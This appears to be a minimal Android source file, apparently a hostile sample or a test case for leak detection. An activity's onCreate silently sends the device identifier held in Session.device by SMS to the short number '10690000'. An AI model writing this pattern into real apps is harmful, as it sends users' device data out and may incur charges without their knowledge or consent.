package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Second extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SmsManager.getDefault().sendTextMessage("10690000", null, Session.device, null, null);
    }
}
